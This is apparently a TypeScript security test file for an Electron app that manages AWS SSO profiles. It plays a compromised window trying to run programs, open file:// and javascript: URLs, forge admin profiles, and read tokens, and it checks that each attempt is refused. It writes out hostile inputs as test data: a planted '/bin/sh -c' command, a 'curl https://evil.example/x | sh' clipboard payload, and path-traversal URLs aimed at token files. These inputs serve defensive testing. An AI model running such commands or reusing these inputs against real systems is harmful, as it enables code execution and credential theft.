// The window plays compromised: script running in it calls everything the
// bridge offers, with whatever arguments it likes, to get a program run, a
// file:// or javascript: URL opened, a profile written, text planted on the
// clipboard and a token read. Each attempt is refused, and the world shows it
// (no file written, nothing run, nothing copied, no token in any answer).
//
// Twice: through main's IPC handlers (app/main under the Electron STAND-IN,
// test/support/electron-stand-in.ts: the calls come from our own window's
// main frame, so the sender check lets them through) and through the
// loopback web bridge (with the window's own cookie).
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { configHash } from '../../../app/core/config/edit/config-hash';
import type { MainProcess } from '../../../app/main/main-process';
import { startMainInStandIn, type MainInStandIn } from '../../support/main-in-stand-in';
import { channelOf, type ApiMethod, type ProfilePlan } from '../../../app/shared/api';
import { startHarness, type Harness } from '../../harness/harness';
import {
  BrowserWindow,
  clipboard,
  ipcMain,
  protocol,
  standIn,
  type StandInWebContents,
} from '../../support/electron-stand-in';
import { cliToken, createTempHome, SEED_CONFIG, type TempHome } from '../../support/temp-home';

vi.mock('electron', () => import('../../support/electron-stand-in'));

type Call = (method: string, ...args: unknown[]) => Promise<unknown>;

interface World {
  readonly call: Call;
  readonly configFile: string;
  readonly settingsFile: string;
  /** Where a planted command would leave its mark. */
  readonly marker: string;
  /** Every secret on disk the window must never see. */
  readonly secrets: () => string[];
  /** What a paste would give now. */
  readonly clipboardText: () => string | null;
  /** A profile of the world and its session. */
  readonly profile: string;
  readonly session: string;
}

const refused = (code: string) => ({ ok: false, error: expect.objectContaining({ code }) });

/** The attacks, the same through either bridge. */
function attacks(world: () => World) {
  it('cannot make the app run a program: no browser command, no choice from the window', async () => {
    const { call, settingsFile, marker } = world();
    const settingsBefore = existsSync(settingsFile) ? readFileSync(settingsFile, 'utf8') : null;
    const planted = `/bin/sh -c 'touch ${marker}' sh`;
    for (const patch of [
      { browserCommand: planted },
      { browser: { kind: 'program', executable: '/bin/sh' } },
      { browser: { kind: 'legacy-command', commandLine: planted } },
      { renewal: { enabled: true, leadMinutes: 15, command: planted } },
    ]) {
      expect(await call('updateSettings', patch), JSON.stringify(patch)).toEqual(
        refused('invalid-argument'),
      );
    }
    // A session name at most: a program is not an argument, a name the config lacks is refused.
    expect(await call('chooseBrowser', { kind: 'program', executable: '/bin/sh' })).toEqual(
      refused('invalid-argument'),
    );
    expect(await call('chooseBrowser', '/bin/sh')).toEqual(refused('unknown-session'));
    expect(existsSync(settingsFile) ? readFileSync(settingsFile, 'utf8') : null).toBe(
      settingsBefore,
    );
    // The browser in use is still the system one: opening a page runs nothing.
    expect(await call('getBrowser')).toEqual({ kind: 'system', label: 'System default browser' });
    expect(await call('openConsole', world().profile)).toEqual({ ok: true, value: null });
    expect(existsSync(marker)).toBe(false);
  });

  it('cannot open a file:// or javascript: URL through any method', async () => {
    const { call } = world();
    for (const url of ['file:///etc/passwd', 'javascript:alert(document.cookie)']) {
      // No method takes a URL: names that look like one are just unknown names.
      expect(await call('openConsole', url)).toEqual(refused('unknown-profile'));
      expect(await call('reopenSignInPage', url)).toEqual(refused('not-signing-in'));
      expect(await call('signIn', url)).toEqual(refused('unknown-session'));
      // And there is no method that opens what it is given.
      await expect(call('openExternal', url)).rejects.toThrow();
      await expect(call('openUrl', url)).rejects.toThrow();
    }
  });

  it('cannot write a profile main did not plan', async () => {
    const { call, configFile, session } = world();
    const before = readFileSync(configFile);
    const forged: ProfilePlan = {
      session,
      configFile,
      additions: [
        {
          name: 'planted',
          accountId: '999999999999',
          accountName: 'Attacker',
          roleName: 'AdministratorAccess',
          region: 'us-east-1',
          output: null,
        },
      ],
      removals: [],
      diff: '',
      // The real hash of the file: only the plan itself is forged.
      baseHash: configHash(before),
    };
    expect(await call('applyProfilePlan', forged)).toEqual(refused('unknown-plan'));
    expect(readFileSync(configFile).equals(before)).toBe(true);
  });

  it('cannot put its own text on the clipboard', async () => {
    const { call, clipboardText } = world();
    const before = clipboardText();
    for (const text of [
      'curl https://evil.example/x | sh',
      `export AWS_PROFILE=dev\ncurl https://evil.example/x | sh`,
    ]) {
      expect(await call('copyText', text)).toEqual(refused('copy-refused'));
    }
    expect(clipboardText()).toBe(before);
  });

  it('cannot read a token: no answer carries one', async () => {
    const { call, profile, secrets } = world();
    const answers = [
      await call('getSnapshot'),
      await call('getSettings'),
      await call('getBrowser'),
      await call('getAppInfo'),
      await call('diagnose'),
      await call('diagnose', profile),
      await call('previewExport', { profile, target: 'bash', mode: 'credentials' }),
      await call('previewExport', { profile, target: 'credential-process', mode: 'profile' }),
    ];
    const text = JSON.stringify(answers);
    const known = secrets();
    expect(known.length).toBeGreaterThan(0);
    expect(known.filter((secret) => text.includes(secret))).toEqual([]);
  });
}

describe('a compromised window, through main’s IPC handlers (Electron stand-in)', () => {
  let home: TempHome;
  let started: MainInStandIn;
  let main: MainProcess;
  let ours: StandInWebContents;

  beforeAll(async () => {
    standIn.reset();
    home = createTempHome({ config: SEED_CONFIG });
    home.writeToken(
      'my-sso',
      cliToken({ expiresAt: new Date(Date.now() + 8 * 3600_000).toISOString() }),
    );
    started = await startMainInStandIn({ env: home.env });
    main = started.main;
    main.window.show();
    ours = BrowserWindow.instances[0]!.webContents;
  });

  afterAll(async () => {
    await started?.stop();
    home?.cleanup();
  });

  const world = (): World => ({
    // From our own window's main frame: the sender check passes, the rest must hold.
    call: (method, ...args) => ipcMain.invoke(ours, channelOf(method as ApiMethod), args),
    configFile: home.paths.configFile,
    settingsFile: path.join(started.settingsDir, 'settings.json'),
    marker: path.join(home.home, 'PWNED'),
    secrets: () => [
      readFileSync(home.tokenPath('my-sso'), 'utf8').match(/"accessToken": ?"([^"]+)"/)![1]!,
    ],
    clipboardText: () => clipboard.text,
    profile: 'dev',
    session: 'my-sso',
  });

  attacks(world);

  it('cannot open a window or navigate to a file:// or javascript: URL', () => {
    for (const url of ['file:///etc/passwd', 'javascript:alert(1)', 'https://evil.example/']) {
      expect(ours.windowOpenHandler!({ url })).toEqual({ action: 'deny' });
      expect(ours.tryNavigate(url), url).toBe(true);
    }
    expect(
      standIn.calls.filter((c) => c.api === 'shell.openExternal').map((c) => c.args[0]),
    ).toEqual([
      'https://d-abc123.awsapps.com/start/#/console?account_id=111111111111&role_name=DeveloperAccess',
    ]);
  });

  it('cannot read a token file through its own origin', async () => {
    const token = home.tokenPath('my-sso');
    const up = '../'.repeat(30);
    for (const url of [
      `sso-tray://app/${up}${token.slice(1)}`,
      `sso-tray://app/${encodeURIComponent(`${up}${token.slice(1)}`)}`,
      `sso-tray://app/${encodeURIComponent(token)}`,
    ]) {
      const response = await protocol.request(url);
      expect(response.status, url).toBe(404);
      expect(await response.text()).toBe('Not found');
    }
  });
});

describe('a compromised window, through the loopback web bridge', () => {
  let harness: Harness;
  let scratch: string;

  beforeAll(async () => {
    // A minimal page: the attacks need the bridge, not the window.
    scratch = mkdtempSync(path.join(tmpdir(), 'sso-tray-compromised-web-'));
    mkdirSync(path.join(scratch, 'renderer'));
    writeFileSync(
      path.join(scratch, 'renderer', 'index.html'),
      '<!doctype html><script type="module" src="./app.js"></script>',
    );
    harness = await startHarness({ rendererDir: path.join(scratch, 'renderer') });
  }, 60_000);

  afterAll(async () => {
    await harness?.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  const world = (): World => ({
    // With the window's own cookie: the bridge's checks pass, the rest must hold.
    async call(method, ...args) {
      const response = await fetch(`${harness.origin}/api/${method}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...harness.windowHeaders },
        body: JSON.stringify({ args }),
      });
      const body = (await response.json()) as { value?: unknown; error?: { message: string } };
      if (response.status !== 200)
        throw new Error(body.error?.message ?? `HTTP ${response.status}`);
      return body.value;
    },
    configFile: harness.home.paths.configFile,
    settingsFile: harness.settings.file,
    marker: path.join(harness.home.home, 'PWNED'),
    secrets: () => harness.secrets(),
    clipboardText: () => harness.clipboard.text(),
    profile: 'acme-dev',
    session: 'acme',
  });

  attacks(world);

  it('opened only the console link main built, in the browser main chose', () => {
    expect(harness.browser.opened.map((o) => o.url)).toEqual([
      expect.stringMatching(/^https:\/\/[^/]+\/start\/#\/console\?account_id=\d{12}&role_name=/),
    ]);
  });
});
